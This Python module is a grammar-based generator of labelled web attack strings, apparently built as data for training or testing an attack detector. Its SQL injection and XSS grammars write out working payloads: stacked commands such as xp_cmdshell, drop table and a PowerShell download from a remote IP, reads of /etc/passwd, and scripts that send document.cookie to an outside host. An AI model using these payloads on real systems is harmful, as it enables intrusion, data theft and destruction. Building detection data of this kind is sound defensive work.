"""Own attack generator: one small grammar a family, written from manuals of the attacked languages and systems."""

import random

from . import attacks_built as built
from . import attacks_wide as wide
from .attacks_beside import BESIDE, BESIDE_FAMILIES
from .attacks_placed import PLACED, PLACED_FAMILIES
from .attacks_more import CMDI, NOSQLI, SMALL, SSTI, TRAVERSAL, XXE
from .grammar import Grammar

_SQL = {
    "sqli": ["{head}{body}{tail}", "{head}{body}{tail}", "{stack}", "{bare}", "{login}", "{union}", "{concat}", "{timing}"],
    "val": ["1", "-1", "0", "{n}", "-{n4}", "{word}", "admin", "", "{word}.htm", "{n}.{n}", "test@{host}", "{date}", "{word} {word}", "null"],
    "q": ["'", '"', "')", '")', "'))", '"))', "`", "%'", '%"', "%')", "", ")", "))", ")))", "'}}", "\\'", "' ", "']", "')))"],
    "head": ["{val}{q} ", "{val}{q}", "{q} ", "{val}{q} {alias} "],
    "alias": ["as {id} where {n4}={n4}", "where {n4}={n4}", "in boolean mode)", "as {id}", "limit 1", "group by {id}", "having 1=1", "order by {d}"],
    "and": ["and", "or", "&&", "||", "xor", "and not", "or not", "AND", "OR", "rlike", "like", "div", "regexp"],
    "body": ["{and} {cond}", "{and} {cond}", "{and} {func}", "union {all}select {cols}{from}", "{order}", "{and} {sub}", "procedure analyse({func},1)",
             "; {stacked}", "{and} ({cond})*{n4}", "{and} {cond} {and} {q0}{id}{q0}={q0}{id}", "into outfile '/var/www/{word}.php'", "into dumpfile '/tmp/{word}'"],
    "q0": ["'", '"', "('", '("', "(('", "", "%"],
    "cond": ["{n4}={n4}", "1=1", "1=2", "'1'='1", "'a'='a'", "{d}={d}", "{n4} = {n4}", "true", "1", "{n4}>{n4}", "1 like 1", "'{id}' like '{id}", '"{id}"="{id}',
             "{d}<{d}", "not false", "1 between 0 and 2", "{word} is not null", "{word} is null", "exists({select})", "{sub}={n4}", "1 in (1)", "{ascii}>{n}",
             "'x'='x", "''=''", "userid like '%", "username like '%{id}%", "2>1", "{n}={n}-- ", "(({n4}={n4}"],
    "ascii": ["ascii(substring(({select}),{d},1))", "ord(mid(({select}),{d},1))", "unicode(substring(@@version,{d},1))", "length(({select}))", "char_length(user())",
              "ascii(substr(({select}),{d},1))", "bit_length(database())"],
    "sub": ["({select})", "(select {n4} from(select count(*),concat({hexs},({select}),{hexs},floor(rand(0)*2))x from information_schema.{ischema} group by x)a)",
            "{n4}=(select count(*) from {big} as t1,{big} as t2,{big} as t3)", "(select (case when ({n4}={n4}) then {n4} else {n4}*(select {n4} from {ischema}) end))",
            "{n4}=cast((chr({n})||chr({n}))||({select})::text||(chr({n})) as numeric)", "{n4}=convert(int,({select}))", "{n4} in (({mssqlchars}+({select})+{mssqlchars}))",
            "(select upper(xmltype(chr(60)||chr(58)||({select})||chr(62))) from dual)", "1=(select {n4} from pg_sleep({d}))",
            "(case when ({n4}={n4}) then {n4} else {n4} end)", "iif({n4}={n4},{d},1/0)", "{n4}=(select {func} from dual)", "json_keys((select convert((select concat({hexs},({select}))) using utf8)))"],
    "big": ["rdb$fields", "rdb$types", "sysibm.systables", "domain.domains", "domain.columns", "information_schema.system_users", "sysusers", "all_users", "syscolumns", "generate_series(1,{n})",
            "sysmaster:syspaghdr", "msysaccessobjects", "all_objects", "information_schema.columns"],
    "ischema": ["tables", "columns", "schemata", "character_sets", "plugins", "user_privileges", "triggers", "routines"],
    "hexs": ["0x{hex}", "0x7e", "char({n},{n})", "0x3a", "char(126)"],
    "mssqlchars": ["char({n})", "char({n})+char({n})", "char({n})+char({n})+char({n})"],
    "func": ["sleep({d})", "benchmark({n},md5({d}))", "benchmark(5000000,encode('msg','by {d} seconds'))", "pg_sleep({d})", "extractvalue({n4},concat({hexs},({select})))",
             "updatexml({n4},concat({hexs},({select})),{n4})", "make_set({n4}={n4},{n4})", "elt({n4}={n4},{n4})", "dbms_pipe.receive_message(chr({n})||chr({n}),{d})",
             "dbms_utility.sqlid_to_sqlhash(({select}))", "utl_inaddr.get_host_address(({select}))", "ctxsys.drithsx.sn({n4},({select}))", "gtid_subset(concat({hexs},({select})),{n4})",
             "exp(~(select * from({select})a))", "polygon((select * from({select})a))", "if({cond},sleep({d}),0)", "load_file('{path}')", "xmltype(({select}))", "randomblob({n})",
             "like('abcdefg',upper(hex(randomblob({n}))))", "row({n4},{n4})>(select count(*),concat({hexs},floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)",
             "regexp_substring(repeat(right(char({n4}),0),{n}),null)", "crypt_key(char({n})||char({n}),null)", "ifnull(cast(({select}) as nchar),0x20)", "st_latfromgeohash(({select}))"],
    "path": ["/etc/passwd", "c:/boot.ini", "c:\\\\windows\\\\win.ini", "/var/www/html/config.php"],
    "all": ["all ", "", "distinct ", "", "all "],
    "cols": ["null", "null,null", "null,null,null", "1", "1,2", "1,2,3", "1,2,3,4,5", "{n4},{n4},{n4}", "{n4},{n4},{n4},{n4},{n4},{n4},{n4}", "null,null,null,null,null,null,null,null",
             "{col},{col}", "1,{col},3", "*", "concat({col},0x3a,{col})", "group_concat({col})", "1,group_concat({col},{hexs}),3", "null,{select1},null", "'{word}','{word}'",
             "char({n},{n},{n}),null", "{word},{word},{word}", "1,@@version,3", "version(),user(),database()", "{hexs},2,3"],
    "select1": ["({select})", "@@version", "version()", "user()", "banner", "load_file('{path}')"],
    "col": ["user", "password", "username", "table_name", "column_name", "@@version", "version()", "database()", "user()", "name", "email", "login", "pass", "banner", "current_user",
            "schema_name", "system_user", "sqlite_version()", "credit_card", "group_concat(table_name)", "{word}", "@@datadir", "host", "hash", "uid", "sql"],
    "from": [" from {table}", " from {table}", "", " from {table} where {cond}", " from {table} limit {d},1", "", " from dual", " from {table} order by {d}"],
    "table": ["users", "information_schema.tables", "information_schema.columns where table_name='{word}'", "mysql.user", "sysobjects where xtype='u'", "all_tables", "dual", "{word}",
              "pg_catalog.pg_user", "master..sysdatabases", "v$version", "pg_shadow", "members", "admin", "sqlite_master", "user_tables", "customers", "accounts", "pg_tables",
              "syslogins", "master.dbo.sysdatabases", "user_tab_columns", "pg_user", "wp_users", "msysobjects", "dba_users", "all_tab_columns"],
    "select": ["select {col} from {table}", "select {col}", "select {col} from {table} limit {d},1", "select top 1 {col} from {table}", "select count(*) from {table}",
               "select {col} from {table} where {cond}", "select distinct {col} from {table}", "select (elt({n4}={n4},1))", "select 1", "select {hexs}", "select 0"],
    "order": ["order by {d}", "order by {n}", "group by {d} having {cond}", "having {cond}", "group by {col},{col} having 1=1", "limit {d},{d}", "limit 1 offset {d}", "order by (case when ({cond}) then 1 else 1/0 end)"],
    "stacked": ["waitfor delay '0:0:{d}'", "drop table {table}", "exec xp_cmdshell '{cmd}'", "exec master..xp_cmdshell '{cmd}'", "select pg_sleep({d})", "{select}", "insert into {word} values({n},'{word}')",
                "update {word} set {col}='{word}' where {cond}", "delete from {word}", "shutdown", "select sleep({d})", "declare @{var} varchar({n});set @{var}={hexs};exec(@{var})",
                "create or replace function {word}(int) returns int as '/lib/libc.so.6','sleep' language 'c' strict", "exec sp_configure 'show advanced options',1;reconfigure", "truncate table {word}",
                "begin user_lock.sleep({d}); end", "begin dbms_lock.sleep({d}); end", "select * from generate_series(1,{n})", "select count(*) from generate_series({n},{n})",
                "copy (select '') to program '{cmd}'", "alter user {word} identified by '{word}'", "call regexp_substring(repeat(right(char({n4}),0),{n}),null)", "select dbms_pipe.receive_message(chr({n}),{d}) from dual",
                "if({select}) waitfor delay '0:0:{d}'", "grant all on *.* to {word}", "backup database {word} to disk='\\\\\\\\{ip}\\\\{word}'"],
    "cmd": ["dir", "whoami", "ping {ip}", "net user {word} {word} /add", "cmd.exe /c dir", "nslookup {host}", "powershell -c iwr http://{ip}/{word}"],
    "timing": ["{val}{q} {and} {func}{tail}", "{val}{q};waitfor delay '0:0:{d}'{tail}", "{val}{q} waitfor delay '0:0:{d}'{tail}", "{func}", "{val}-sleep({d})", "{val} / sleep({d}) ", "(select(0)from(select({func}))v)",
               "{val}'xor(if(now()=sysdate(),sleep({d}),0))xor'z", "if(now()=sysdate(),sleep({d}),0)", "{val}' and sleep({d}) and '{id}'='{id}", "{val};select pg_sleep({d})--", "{val}'||(select {n4} from pg_sleep({d}))||'"],
    "stack": ["{val}{q};{stacked}{tail}", "{val}; {stacked}{tail}", "{q};{stacked}", "{stacked}"],
    "bare": ["{and} {cond}", "{and} {cond}{tail}", "{select}", "union {all}select {cols}{from}{tail}", "{func}", "{sub}", "{val}'{tail}", "{val}\"{tail}", "{val}{q} {and} {q0}{id}{q0}={q0}{id}"],
    "login": ["admin'{tail}", "' {and} '1'='1", "' {and} ''='", "admin' {and} {cond}{tail}", "' or 1=1{tail}", "\" or \"\"=\"", "or 1=1{tail}", "' or 'x'='x", "') or ('1'='1", "admin\"{tail}", "'='", "'-'", "' '", "'&'",
              "' or true{tail}", "'=0{tail}", "' || 1=1{tail}", "anything' or '{id}'='{id}", "' or {word} like '%{id}%", "1' or '1' = '1' limit 1{tail}", "' or 1 limit 1{tail}", "x' and userid is null{tail}",
              "x' and email is null{tail}", "' or 3 = 3", "{word}' or 1=1 order by {d}{tail}", "' union select 1,'{word}','{hex}{tail}"],
    "union": ["{val}{q} union {all}select {cols}{from}{tail}", "-{n} union {all}select {cols}{from}{tail}", "{val}{q} and 1=0 union {all}select {cols}{from}{tail}", "{val} union(select({cols})from({table}))",
              "{val}{q} limit {d} union {all}select {cols}{tail}", "select * from users where id = {d} {and} {cond} union select 1,version(){tail}", "select * from {table} where {col} = '{val}' {and} {cond}{tail}"],
    "concat": ["{val}'||({select})||'", "{val}'+({select})+'", "{val}'||(select '{id}' from dual where {n4}={n4} {and} {cond})||'", "{val}'+(select '{id}' where {n4}={n4} {and} {sub})+'", "'||{func}||'", "'+{func}+'",
               "{val}'and({select})>'{d}", "{val}\"+({select})+\"", "'||'{id}", "'+'{id}", "(select concat({hexs},({select}),{hexs}))", "{val}',({sub}))-- ", "{val},{sub}", "{word}'{{{sub}}}"],
    "tail": ["-- ", "--", "#", "", "", ";--", "-- -", "--+", "/*", ";", "-- {id}", "# {id}", " and '{id}'='{id}", " and (('{id}'='{id}", " and \"{id}\"=\"{id}", "%00", "`", ")", ") and ({n4}={n4}", " and '%'='", "'", ";%00", "--%0a", "}}"],
}

_XSS = {
    "xss": ["{pre}{tagx}", "{pre}{tagx}", "{tagx}", "{script}", "{pre}{script}", "{uri}", "{attr}", "{jsctx}", "{pre}{handlertag}", "{handlertag}", "{misc}", "{bare}"],
    "pre": ['">', "'>", ">", '"/>', "</script>", "-->", "</title>", "</textarea>", "'\"><", "]]>", "{word}\">", "</style>", '"]>', "{{", "*/", "</noscript>", "'>\">", "{word}'/>"],
    "js": ["alert({arg})", "alert({arg})", "confirm({arg})", "prompt({arg})", "alert`{d}`", "eval({codes})", "window['al'+'ert']({d})", "top[\"al\"+\"ert\"]({d})", "document.location='http://{host}/?c='+document.cookie",
           "fetch('//{host}?c='+document.cookie)", "new Image().src='http://{host}/{word}?'+document.cookie", "self[/al/.source+/ert/.source]({d})", "setTimeout('alert({d})',{d})", "import('//{host}/{word}.js')",
           "[].constructor.constructor('alert({d})')()", "Function('ale'+'rt({d})')()", "print()", "$.getScript('//{host}')", "document.write('<img src=//{host}>')", "open('//{host}')", "location='javascript:alert%28{d}%29'",
           "document.body.innerHTML='{word}'", "throw onerror=alert,{d}", "(alert)({d})", "a=alert,a({d})", "[{d}].find(alert)", "Reflect.apply(alert,null,[{d}])", "onerror=alert;throw {d}", "window.onerror=alert", "localStorage.getItem('{word}')",
           "String.fromCharCode({n},{n},{n})", "popup={d};", "javascript:alert({d})", "eval(atob('{b64}'))", "eval(location.hash.slice(1))", "document.cookie", "console.log(document.domain)", "write({d})", "name={d}"],
    "arg": ["1", "{n}", "'XSS'", '"XSS"', "document.cookie", "document.domain", "/XSS/", "'{word}'", "String.fromCharCode(88,83,83)", "/{word}/.source", "", "origin", "self", "location", "\\'{word}\\'", "&quot;{word}&quot;", "window.name", "`{word}`"],
    "codes": ["String.fromCharCode({n},{n},{n},{n})", "atob('{b64}')", "'al'+'ert({d})'", "name", "location.hash.substr(1)", "unescape('%61%6c%65%72%74')", "'\\x61lert({d})'"],
    "script": ["<script>{js}</script>", "<script src=//{host}/{word}.js></script>", "<script src=\"http://{host}/{word}.js\"></script>", "<script>{js}//", "<script/src=data:,{js}>", "<scr<script>ipt>{js}</scr</script>ipt>", "<script type=text/javascript>{js};</script>",
               "<script\n>{js}</script>", "<script>{word}={d};{js}</script >", "<script x>{js}</script {word}", "<svg><script>{js}</script>", "<<script>{js};//<</script>", "<script>/*{word}*/{js}/*{word}*/</script>", "<script language=vbscript>msgbox {d}</script>", "<script src=http://{ip}/{word}></script>"],
    "tag": ["img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "a", "div", "object", "embed", "button", "select", "textarea", "keygen", "math", "form", "table", "td", "isindex", "bgsound", "link", "meta", "base", "style", "xss", "b", "p", "h1", "template",
            "image", "source", "track", "frameset", "applet", "area", "label", "custom-{word}", "{word}", "animate", "set", "q", "abbr", "font", "output", "picture", "head", "html", "center", "span", "ul", "noembed", "tbody", "time", "strong"],
    "event": ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onbegin", "onpointerenter", "onpointerover", "onpointerdown", "onanimationstart", "onanimationend", "ontransitionend", "onkeypress", "onkeydown", "onscroll", "onresize",
              "oncopy", "oncut", "onpaste", "ondrag", "ondrop", "oncontextmenu", "onsubmit", "onchange", "oninput", "oninvalid", "onsearch", "onselect", "onwheel", "onplay", "onloadstart", "oncanplay", "onhashchange", "onpageshow", "onpopstate", "onbeforeunload", "onunload",
              "onmessage", "onfinish", "onbounce", "onauxclick", "ondblclick", "onmouseenter", "onmousemove", "onreadystatechange", "onpointerleave", "ontouchstart", "onfocusin", "onwebkitanimationstart", "onend", "onrepeat", "onafterprint", "onloadeddata", "onseeking"],
    "sp": [" ", "/", "\n", "\t", "/**/", " / ", "\x0c", "  ", " {word} ", "/{word}/"],
    "qq": ["", '"', "'", "", "`"],
    "handlertag": ["<{tag}{sp}{event}={js}>", "<{tag}{sp}{event}=\"{js}\">", "<{tag}{sp}src=x{sp}{event}={js}>", "<{tag}{sp}{event}='{js}'>{word}</{tag}>", "<{tag}{sp}{event} = {js}//", "<{tag}{sp}id=x tabindex=1 {event}={js}></{tag}>",
                   "<{tag} src={word} {event}={js} />", "<{tag}{sp}style=\"animation-name:{word}\" {event}=\"{js}\">", "<{tag} {event}={js} autofocus>", "<{tag} contenteditable {event}={js}>{word}</{tag}>", "<{tag} src=`{word}` {event}=\"{js}\"", "<style>@keyframes {word}{{}}</style><{tag} style=\"animation-name:{word}\" {event}=\"{js}\"></{tag}>",
                   "<{tag} draggable=true {event}={js}>{word}</{tag}>", "<{tag} {event}=&#{n};{js}>"],
    "tagx": ["<img src=x onerror={js}>", "<svg/onload={js}>", "<svg onload={js}>", "<iframe src=\"javascript:{js}\">", "<a href=\"javascript:{js}\">{word}</a>", "<body onload={js}>", "<input autofocus onfocus={js}>", "<object data=\"javascript:{js}\">", "<embed src=javascript:{js}>",
             "<math><mi xlink:href=\"javascript:{js}\">{word}</mi></math>", "<details open ontoggle={js}>", "<form action=\"javascript:{js}\"><input type=submit>", "<iframe srcdoc=\"<script>{js}</script>\">", "<link rel=import href=//{host}>", "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
             "<base href=\"javascript:/a/+{js}//\">", "<style>@import '//{host}/{word}.css'</style>", "<div style=\"width:expression({js})\">", "<div style=\"background:url(javascript:{js})\">", "<svg><animate onbegin={js} attributeName=x>", "<svg><a xlink:href=\"javascript:{js}\"><text x=20 y=20>{word}</text></a>",
             "<button formaction=javascript:{js}>{word}", "<isindex type=image src=1 onerror={js}>", "<video><source onerror=\"{js}\">", "<img/src='{d}'/onerror={js}>", "<img src=\"jav&#x09;ascript:{js}\">", "<table background=\"javascript:{js}\">", "<xml onreadystatechange={js}>", "<img dynsrc=\"javascript:{js}\">",
             "<img src=javascript:{js}>", "<bgsound src=\"javascript:{js}\">", "<br size=\"&{{{js}}}\">", "<layer src=\"http://{host}/{word}.html\">", "<!--<img src=\"--><img src=x onerror={js}//\">", "<noscript><p title=\"</noscript><img src=x onerror={js}>\">", "<iframe src=//{host}></iframe>", "<h1>{word}</h1><script>{js}</script>"],
    "uri": ["javascript:{js}", "javascript://%0a{js}", "JaVaScRiPt:{js}", "data:text/html,<script>{js}</script>", "data:text/html;base64,{b64}", "vbscript:msgbox({d})", "java\tscript:{js}", "javascript:/*--></title></style>{js}", "javascript&colon;{js}", "data:image/svg+xml,<svg onload={js}>", "feed:javascript:{js}"],
    "attr": ['" {event}={js} x="', "' {event}={js} '", '" autofocus {event}="{js}', "'/{event}={js}//", '"{sp}{event}="{js}"', '" style="x:expression({js})', "` {event}={js} `", '" onfocus="{js}" autofocus="', "{word}\" {event}=\"{js}", "\"{event}={js} {word}=\"", " {event}={js} ", "x\" {event}={js}//"],
    "jsctx": ["';{js}//", "\";{js}//", "'-{js}-'", "\"-{js}-\"", "\\';{js}//", "</script><script>{js}</script>", "${{{js}}}", "'}});{js}//", "*/{js}/*", "');{js};('", "\"]);{js}//", "'+{js}+'", "\"*{js}*\"", ";{js};", "{{{{constructor.constructor('{js}')()}}}}", "{{{{$on.constructor('{js}')()}}}}", "'/{js}/'", "||{js}||", "*/{js}/*"],
    "misc": ["<![CDATA[<script>{js}</script>]]>", "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{js}</script></html>", "+ADw-script+AD4-{js}+ADw-/script+AD4-", "<!DOCTYPE html><script>{js}</script>", "\\u003cscript\\u003e{js}\\u003c/script\\u003e", "<a onmouseover={js}>{word}</a>", "<p>{word}<script>{js}</script>{word}</p>", "[{word}](javascript:{js})", "![{word}]({word}\"onerror=\"{js})"],
    "bare": ["{js}", "{js};", "document.write({word})", "document.cookie=\"{word}\"", "window.location='//{host}'", "var {var}=document.createElement('script');{var}.src='//{host}';document.body.appendChild({var})", "url(javascript:{js})", "onerror={js}", "&{{{js}}}", "'\"><{word}>", "xss\"'><{word}"],
}

REPEATS_MAX = 30


def grammars(typical: bool = False) -> "list[tuple[str, Grammar, str, float]]":
    """Families with their grammars, start symbols and shares of the generated values; a family may have several.

    `typical`: without payloads that are put together freely.
    """
    small, free = Grammar(SMALL), Grammar(wide.WIDE)
    out = [("sqli", Grammar(_SQL), "sqli", 0.25), ("xss", Grammar(_XSS), "xss", 0.2), ("cmdi", Grammar(CMDI), "cmdi", 0.08),
           ("cmdi", Grammar(wide.COMMANDS), "cmdi", 0.08), ("path-traversal", Grammar(TRAVERSAL), "path_traversal", 0.05),
           ("path-traversal", Grammar(wide.PATHS), "path_traversal", 0.05), ("xxe", Grammar(XXE), "xxe", 0.03), ("ssti", Grammar(SSTI), "ssti", 0.05),
           ("nosqli", Grammar(NOSQLI), "nosqli", 0.02), ("ssrf", Grammar(wide.SSRF), "ssrf", 0.04)]
    out += [(family, small, family, share) for family, share in {
        "ldapi": 0.01, "ssrf": 0.015, "log4shell": 0.02, "shellshock": 0.02, "java": 0.015, "php": 0.035, "rfi": 0.005, "crlf": 0.03, "other": 0.005}.items()]
    if not typical:
        combined = Grammar(built.BUILT)
        out += [(family, combined, start, share) for family, start, share in built.FAMILIES]
        for rules, shares in ((PLACED, PLACED_FAMILIES), (BESIDE, BESIDE_FAMILIES)):
            grammar = Grammar(rules)
            out += [(start.replace("_", "-"), grammar, start, share) for start, share in shares.items()]
    return out + [(family, free, family, share) for family, share in {
        "nosqli": 0.035, "rfi": 0.03, "java": 0.03, "other": 0.03, "ldapi": 0.015, "php": 0.02}.items()]


def generate(count: int, seed: int, typical: bool = False) -> "list[tuple[str, bytes]]":
    """(family, value) pairs; what the grammars write often, such as a lone operator, is repeated a few times."""
    rng = random.Random(seed)
    seen, out = {}, []
    for family, grammar, start, share in grammars(typical):
        for _ in range(int(count * share)):
            value = grammar.expand(start, rng).encode("utf-8")
            if value.strip() and len(value) < 2000:
                seen[value] = seen.get(value, 0) + 1
                if seen[value] <= REPEATS_MAX:
                    out.append((family, value))
    return out
